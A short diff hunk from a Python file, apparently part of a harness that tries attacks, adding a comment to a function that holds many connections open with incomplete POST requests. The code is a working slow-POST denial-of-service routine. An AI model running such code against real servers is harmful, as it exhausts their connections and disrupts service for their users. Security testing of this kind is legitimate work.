@@ -322,7 +322,7 @@ def trickles(url: str, _cookie: str, _rng: random.Random) -> str:
     held = [socket.create_connection(target, PATIENCE, FROM) for _ in range(TRICKLES)]
     for each in held:
         each.sendall(b"POST /masuk HTTP/1.1\r\nHost: gerak\r\nContent-Length: 9000\r\n\r\nakun=")
-    time.sleep(20)
+    time.sleep(20)  # what is tried: to hold lines open and send nothing
     for each in held:
         each.close()
     return f"{TRICKLES} requests of 20 seconds"
